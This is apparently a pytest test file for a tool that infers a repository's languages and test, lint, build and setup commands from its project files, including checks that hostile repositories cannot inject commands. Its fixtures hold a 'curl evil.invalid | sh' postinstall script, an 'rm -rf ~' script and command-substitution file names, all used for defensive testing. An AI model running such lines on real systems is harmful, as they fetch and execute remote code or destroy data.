"""The repository profile: what is read from the usual files, and what hostile ones can do about it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import toolchain
from toolchain import Toolchain, setup_for, survey

SCRIPTS = {"test": "jest", "lint": "eslint .", "build": "tsc", "postinstall": "curl evil.invalid | sh"}


@pytest.fixture
def profile(tmp_path):
    """Write files below a folder and survey them: profile({"go.mod": "module x"}, "go.sum")."""

    def run(texts: dict[str, str], *empty: str) -> Toolchain:
        for name, text in {**texts, **dict.fromkeys(empty, "")}.items():
            (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / name).write_text(text)
        return survey(tmp_path, [*texts, *empty])

    return run


# --------------------------------------------------------------------------------------------------------
# The usual files
# --------------------------------------------------------------------------------------------------------


def test_a_node_project_is_known_by_its_package_file_and_its_lock(profile):
    package = {"scripts": SCRIPTS, "dependencies": {"express": "5"}, "devDependencies": {"jest": "30"}}
    found = profile(
        {"package.json": json.dumps(package)}, "package-lock.json", "src/a.ts", "src/b.ts", "jest.config.js"
    )
    assert found == Toolchain(
        languages=("TypeScript", "JavaScript"),
        frameworks=("Express", "Jest"),
        managers=("npm",),
        setup="npm ci",
        test=("npm test",),
        lint=("npm run lint",),
        build=("npm run build",),
    )
    assert found.line() == (
        "TypeScript, JavaScript; Express, Jest; npm; test: npm test; lint: npm run lint; build: npm run build;"
        " setup: npm ci"
    )


@pytest.mark.parametrize(
    ("lock", "test", "lint"),
    [
        ("yarn.lock", "yarn test", "yarn run lint"),
        ("pnpm-lock.yaml", "pnpm test", "pnpm run lint"),
        ("bun.lock", "bun run test", "bun run lint"),  # `bun test` is another runner, not the script
    ],
)
def test_the_lock_file_says_which_package_manager_it_is(profile, lock, test, lint):
    found = profile({"package.json": json.dumps({"scripts": SCRIPTS})}, lock)
    assert (found.test, found.lint) == ((test,), (lint,))


def test_the_test_script_that_npm_init_writes_is_no_test(profile):
    script = 'echo "Error: no test specified" && exit 1'
    assert profile({"package.json": json.dumps({"scripts": {"test": script}})}).test == ()


@pytest.mark.parametrize(
    ("texts", "more", "managers", "test", "lint"),
    [
        ({"requirements.txt": "flask\npytest>=8\n"}, [], ("pip",), ".venv/bin/python -m pytest", None),
        ({"pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff]\n"}, [], ("pip",), "python3 -m pytest", "ruff"),
        ({"pyproject.toml": '[project]\ndependencies = ["pytest"]\n'}, ["uv.lock"], ("uv",), "uv run pytest", None),
        ({"pyproject.toml": "[tool.poetry]\n[x]\npytest = '8'\n"}, [], ("poetry",), "poetry run pytest", None),
        ({"setup.cfg": "[options]\n"}, ["tests/conftest.py", ".flake8"], ("pip",), "python3 -m pytest", "flake8"),
        ({"requirements.txt": "Django==5\n"}, ["manage.py"], ("pip",), ".venv/bin/python manage.py test", None),
        ({"requirements.txt": "# pytest\npytest-mock\n"}, [], ("pip",), None, None),
    ],
)  # fmt: skip
def test_a_python_project_is_known_by_whichever_file_it_uses(profile, texts, more, managers, test, lint):
    found = profile(texts, *more)
    assert (found.managers, found.test) == (managers, (test,) if test else ())
    assert [line.split()[2:3] or line for line in found.lint] == ([[lint]] if lint else [])


@pytest.mark.parametrize(
    ("texts", "more", "expected"),
    [
        ({"Cargo.toml": "[dependencies]\ntokio = '1'\n"}, ["src/main.rs"],
         "Rust; Tokio; cargo; test: cargo test; build: cargo build"),
        ({"go.mod": "module x\nrequire (\n\tgithub.com/gin-gonic/gin v1.9.0\n)\n"}, ["main.go", ".golangci.yml"],
         "Go; Gin; go; test: go test ./...; lint: golangci-lint run; build: go build ./..."),
        ({"App.sln": "", "App/App.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web">'}, ["App/Program.cs"],
         "C#; ASP.NET Core; dotnet; test: dotnet test App.sln; build: dotnet build App.sln"),
        ({"App.csproj": '<PackageReference Include="xunit" />'}, [],
         "xUnit; dotnet; test: dotnet test App.csproj; build: dotnet build App.csproj"),
        ({"pom.xml": "<artifactId>spring-boot-starter</artifactId>"}, ["mvnw", "src/main/java/A.java"],
         "Java; Spring Boot; maven; test: ./mvnw test; build: ./mvnw package"),
        ({"build.gradle.kts": ""}, ["gradlew", "src/A.java"],
         "Kotlin, Java; gradle; test: ./gradlew test; build: ./gradlew build"),
        ({"Gemfile": "gem 'rails'\ngem \"rubocop\"\n"}, ["Gemfile.lock", "bin/rails", "app/a.rb"],
         "Ruby; Rails; bundler; test: bin/rails test; lint: bundle exec rubocop; setup: bundle install"),
        ({"composer.json": '{"require-dev": {"phpunit/phpunit": "12", "phpstan/phpstan": "2"}}'}, ["src/a.php"],
         "PHP; PHPUnit; composer; test: vendor/bin/phpunit; lint: vendor/bin/phpstan analyse"),
        ({"Makefile": "test: build\n\tgo test\nlint := x\nbuild:\n\tgo build\n"}, [],
         "make; test: make test; build: make build"),
    ],
)  # fmt: skip
def test_each_ecosystem_is_one_line(profile, texts, more, expected):
    assert profile(texts, *more).line() == expected


def test_a_makefile_stands_first_and_ci_files_tell_what_no_other_file_does(profile):
    workflow = "jobs:\n  test:\n    steps:\n      - run: cargo clippy --all -- -D warnings\n      - run: tox\n"
    makefile = "check:\n\tcargo test\n"
    found = profile({"Makefile": makefile, "Cargo.toml": "", ".github/workflows/ci.yml": workflow})
    assert (found.test, found.lint) == (("make check", "cargo test"), ("cargo clippy",))


def test_what_lies_in_a_folder_is_run_there_and_what_is_below_it_is_a_part_of_it(profile):
    package = json.dumps({"scripts": {"test": "jest"}})
    names = ("web app/package.json", "web app/tools/package.json", "node_modules/x/package.json", "a/b/c/package.json")
    found = profile({**dict.fromkeys(names, package), "api/go.mod": "module x"}, "web app/yarn.lock")
    assert found.test == ("cd -- 'web app' && yarn test", "cd -- api && go test ./...")
    assert found.setup == "cd -- 'web app' && yarn install --frozen-lockfile"


def test_an_unknown_tree_has_no_profile(profile):
    assert profile({"README.md": "npm test", "notes.txt": "go.mod"}) == Toolchain()
    assert Toolchain().line() == "" and setup_for(["README.md"]) is None


def test_the_line_stays_short_whatever_there_is(profile):
    long = "/".join(["x" * 120, "y" * 120])
    line = profile({f"{long}/go.mod": "module x", f"{long}/Cargo.toml": ""}).line()
    assert len(line) == toolchain.LINE and line.endswith("...")


def test_the_setup_command_is_that_of_the_lock_file_nearest_to_the_root():
    assert setup_for(["web/package-lock.json", "x/y/uv.lock"]) == ("web/package-lock.json", "cd -- web && npm ci")
    assert setup_for(["web/yarn.lock", "poetry.lock"]) == ("poetry.lock", "poetry install")


def test_it_knows_this_repository():
    kit = Path(__file__).resolve().parent.parent
    found = survey(kit, ["Makefile", "requirements.txt", "pyproject.toml", "cco.py", "dod.py"])
    assert (found.languages, found.test, found.lint) == (
        ("Python",), ("make test", ".venv/bin/python -m pytest"), ("make lint", ".venv/bin/python -m ruff check ."),
    )  # fmt: skip


# --------------------------------------------------------------------------------------------------------
# Files that are not as they should be
# --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["{", "[]", "null", '{"scripts": 3, "dependencies": ["react"]}', "[" * 100_000, '{"scripts": {"test": 1}}', "\x00"],
    ids=("torn", "a list", "null", "wrong types", "deep", "a number", "a null byte"),
)
def test_a_broken_package_file_is_passed_over(profile, text):
    found = profile({"package.json": text, "composer.json": text, "Makefile": "test:\n"})
    assert (found.test, found.frameworks) == (("make test",), ())


def test_nothing_that_a_repository_says_gets_into_a_command(profile):
    scripts = {"test": "rm -rf ~", "lint": "$(touch hit)", "build; touch hit": "x"}
    assert (
        profile({"package.json": json.dumps({"scripts": scripts})}).line() == "npm; test: npm test; lint: npm run lint"
    )


def test_the_name_of_a_folder_or_file_stays_one_word_of_its_command(profile, tmp_path):
    odd = "$(touch hit); `touch hit`'"
    commands = profile({f"{odd}/go.mod": "", f"{odd}.sln": ""}).test
    for command, word in zip(commands, (odd, f"{odd}.sln"), strict=True):
        words = command.partition(" && ")[0]
        shell = ["sh", "-c", f"printf '%s|' {words}"]
        said = subprocess.run(shell, cwd=tmp_path, capture_output=True, text=True, check=True).stdout
        assert said.split("|")[2] == word
    assert not (tmp_path / "hit").exists()


def test_a_link_out_of_the_repository_is_not_followed_and_no_pipe_is_waited_for(tmp_path):
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "outside.json").write_text('{"dependencies": {"react": "1"}, "scripts": {"test": "x"}}')
    (root / "package.json").symlink_to(tmp_path / "outside.json")
    os.mkfifo(root / "Cargo.toml")
    (root / "Makefile").mkdir()
    found = survey(root, ["package.json", "Cargo.toml", "go.mod", "Makefile"])
    assert (found.frameworks, found.test) == ((), ("cargo test", "go test ./..."))


def test_only_the_beginning_of_a_file_and_only_a_handful_of_files_are_read(profile):
    late = " " * toolchain.MAX_READ + '{"scripts": {"test": "x"}}'
    assert profile({"package.json": late}).test == ()
    many = {f"{number:03}/package.json": '{"scripts": {"test": "x"}}' for number in range(100)}
    found = profile(many)
    assert len(found.test) == toolchain.COMMANDS and found.test[0] == "cd -- 000 && npm test"


def test_a_file_name_that_cannot_be_shown_is_passed_over(tmp_path):
    assert survey(tmp_path, ["a\nb/go.mod", "c\x1b[31m/Cargo.toml"]) == Toolchain()


def test_it_needs_nothing_but_the_standard_library():
    code = "import sys, toolchain; print(sorted({'yaml', 'requests', 'tomllib', 'jsonschema'} & set(sys.modules)))"
    kit = Path(__file__).resolve().parent.parent
    assert subprocess.run([sys.executable, "-c", code], cwd=kit, capture_output=True, text=True).stdout == "[]\n"
